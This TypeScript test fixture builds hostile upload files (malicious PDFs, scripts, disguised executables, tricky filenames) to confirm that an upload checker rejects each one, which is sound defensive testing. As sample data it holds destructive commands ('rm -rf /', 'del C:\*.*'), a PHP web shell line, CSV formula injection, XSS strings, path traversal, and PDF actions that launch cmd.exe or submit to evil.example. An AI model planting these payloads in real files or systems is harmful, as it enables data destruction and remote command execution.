import { EICAR } from '../../support/clamd.js';
import { hostileOffice } from './hostile-office.js';
import { hostilePictures } from './hostile-pictures.js';
import { objectStream, part, pdfWith } from './pdf-file.js';
import { plain } from './picture-file.js';
import { word } from './office-file.js';
import { zipOf } from './zip-file.js';

/** A file that must never be served, under the name and type it comes with. */
export interface Hostile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  readonly type?: string;
  /** Part of the words it is refused with. */
  readonly says: RegExp;
}

const MEGABYTE = 1024 * 1024;
const SCRIPT = '<script>alert(document.domain)</script>';
const ACTION = /script or an action/;
const INSIDE = /something else inside/;
const KINDS = /must be a PDF/;
const pdf = (what: string, bytes: Buffer, says: RegExp, name = 'payslip.pdf'): Hostile => ({ what, name, bytes, says });

/** Every hostile file there is here, made by code: nothing in this folder is dangerous by itself. */
export async function hostileFiles(): Promise<readonly Hostile[]> {
  return [...pdfs(), ...texts(), ...(await names()), ...hostileOffice(), ...(await hostilePictures())];
}

function pdfs(): readonly Hostile[] {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const zip = zipOf([{ name: 'evil.js', content: 'alert(1)' }]);
  return [
    pdf(
      'a PDF with a virus',
      pdfWith([`<< /Length ${EICAR.length} >>\nstream\n${EICAR.toString()}\nendstream`]),
      /virus was found/,
    ),
    pdf('a web page before the PDF', pdfWith([], { before: `<html>${SCRIPT}</html>\n` }), /web page or a script/),
    pdf('a script before the PDF', pdfWith([], { before: '/*\n' }), /content is text/),
    pdf('a web page behind the PDF', pdfWith([], { behind: `<html>${SCRIPT}</html>` }), INSIDE),
    pdf('a web page in a comment of the PDF', pdfWith([], { catalogue: `\n% ${SCRIPT}\n` }), INSIDE),
    pdf('a program behind the PDF', pdfWith([], { behind: `MZ${'\x90'.repeat(200)}` }), INSIDE),
    pdf('a PDF that is a ZIP', Buffer.concat([pdfWith([]), zip]), INSIDE),
    pdf(
      'a PDF with a ZIP in a part of it',
      pdfWith([Buffer.concat([Buffer.from('<< /Length 1 >>\nstream\n'), zip, Buffer.from('\nendstream')])]),
      INSIDE,
    ),
    pdf('a PDF with a script', pdfWith([], { catalogue: `/OpenAction ${script}` }), ACTION),
    pdf(
      'a PDF with a script under another spelling',
      pdfWith([], { catalogue: '/OpenAction << /S /J#61v#61Script /JS (1) >>' }),
      ACTION,
    ),
    pdf('a PDF with a script in a packed part', pdfWith([objectStream(script)]), ACTION),
    pdf(
      'a PDF with a script in a packed part with a wrong checksum',
      pdfWith([objectStream(script, (packed) => Buffer.concat([packed.subarray(0, -4), Buffer.from('abcd')]))]),
      ACTION,
    ),
    pdf(
      'a PDF with a script in a packed part that breaks off',
      pdfWith([
        objectStream(`${script}${'0123456789abcdef'.repeat(400)}`, (packed) =>
          Buffer.concat([packed.subarray(0, -12), Buffer.alloc(64, 0xff)]),
        ),
      ]),
      ACTION,
    ),
    pdf(
      'a PDF whose packed part is packed otherwise',
      pdfWith(['<< /Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00>\nendstream']),
      /cannot look into/,
    ),
    pdf('a PDF that starts a program', pdfWith([], { catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), ACTION),
    pdf(
      'a PDF that sends a form',
      pdfWith([], { catalogue: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' }),
      ACTION,
    ),
    pdf(
      'a PDF with a dynamic form',
      pdfWith([part('/Length 9', '<xdp/>')], { catalogue: '/AcroForm << /XFA 6 0 R >>' }),
      ACTION,
    ),
    pdf('a PDF with a film', pdfWith(['<< /Type /Annot /Subtype /RichMedia >>']), ACTION),
    pdf(
      'a PDF with a file inside',
      pdfWith([part('/Type /EmbeddedFile', 'MZ evil')], { catalogue: '/Names << /EmbeddedFiles 6 0 R >>' }),
      /another file inside/,
    ),
    pdf('a PDF with a password', pdfWith([], { trailer: '/Encrypt 6 0 R /ID [<00> <00>]' }), /password/),
    pdf('a PDF that unpacks to 200 MB', pdfWith([part('', Buffer.alloc(200 * MEGABYTE))]), /more than we can check/),
    pdf('a PDF that is cut off', pdfWith([]).subarray(0, 300), /damaged/),
    pdf('a PDF sent as a web page', pdfWith([]), /sent as something else/),
  ].map((file) => (file.what === 'a PDF sent as a web page' ? { ...file, type: 'text/html' } : file));
}

function texts(): readonly Hostile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`;
  const text = (what: string, name: string, content: string | Buffer, says: RegExp): Hostile => ({
    ...{ what, name, says },
    bytes: Buffer.from(content as string),
  });
  return [
    text('the test virus', 'notes.txt', EICAR, /virus was found/),
    text('a drawing with a script', 'logo.svg', svg, /must be|script/),
    text('a drawing named as a picture', 'logo.png', svg, /must be|script|says/),
    text('a drawing named as a text', 'logo.txt', svg, /must be|script/),
    text('a web page', 'letter.html', `<!DOCTYPE html>${SCRIPT}`, /says|must be|script/),
    text('a web page named as a text', 'letter.txt', `Dear Ada\n\n${SCRIPT}`, /web page or a script/),
    text(
      'a web page with spaces in front',
      'letter.csv',
      `${' '.repeat(2_000)}\n<HTML><body onload=alert(1)>`,
      /web page or a script/,
    ),
    text('a shell script', 'notes.txt', '#!/bin/sh\nrm -rf /\n', /web page or a script|must be/),
    text('a batch file', 'notes.txt', '@echo off\r\ndel C:\\*.*\r\n', /web page or a script/),
    text('PHP', 'notes.txt', '<?php system($_GET["c"]); ?>', /web page or a script|must be/),
    text('a CSV that starts a program', 'pay.csv', `Name,Pay\r\nAda,"=cmd|' /C calc'!A0"\r\n`, /starts a program/),
    text('a text of NULs', 'notes.txt', Buffer.alloc(400), KINDS),
    text('a saved email', 'offer.eml', 'From: a@example.com\r\nSubject: Offer\r\n\r\nHello', /says \.eml/),
    text('a link of Windows', 'offer.url', '[InternetShortcut]\r\nURL=file://evil.example/x.exe', /says \.url/),
    text('RTF', 'offer.rtf', '{\\rtf1\\ansi{\\object\\objemb}}', /RTF/),
    text(
      'a program of Windows named .pdf',
      'payslip.pdf',
      Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(500)]),
      KINDS,
    ),
    text(
      'a program of Linux named .png',
      'photo.png',
      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(500)]),
      KINDS,
    ),
    text('nothing', 'payslip.pdf', '', /not empty|Send a file|Choose a file/),
    text('a ZIP', 'payslips.zip', zipOf([{ name: 'a.pdf', content: pdfWith([]) }]), /one by one/),
  ];
}

async function names(): Promise<readonly Hostile[]> {
  const [good, png] = [pdfWith([]), await plain('png')];
  return [
    pdf('a program’s ending behind another', good, /says \.exe/, 'payslip.pdf.exe'),
    pdf('a program’s ending before another', good, /two endings/, 'payslip.exe.pdf'),
    pdf('a name that turns round', good, /says \.exe/, 'payslip\u202efdp.exe'),
    pdf('a NUL in the name', good, /two endings|says/, 'payslip.php\0.pdf'),
    pdf('a name of 20,000 letters', good, /says \.html/, `${'a'.repeat(20_000)}.html`),
    pdf('a name that leads elsewhere', good, /says \.(json|conf|\/)|says/, '../../../../etc/nginx/nginx.conf'),
    pdf('a PDF named as a picture', good, /says \.jpg/, 'photo.jpg'),
    { what: 'a picture named as a PDF', name: 'payslip.pdf', bytes: png, says: /says \.pdf/ },
    {
      what: 'a picture sent as a drawing',
      name: 'photo.png',
      bytes: png,
      type: 'image/svg+xml',
      says: /sent as something else/,
    },
    { what: 'a document named as a ZIP', name: 'offer.zip', bytes: word(), says: /says \.zip/ },
    pdf('11 MB', Buffer.concat([good, Buffer.alloc(11 * MEGABYTE)]), /smaller than 10MB/),
  ];
}
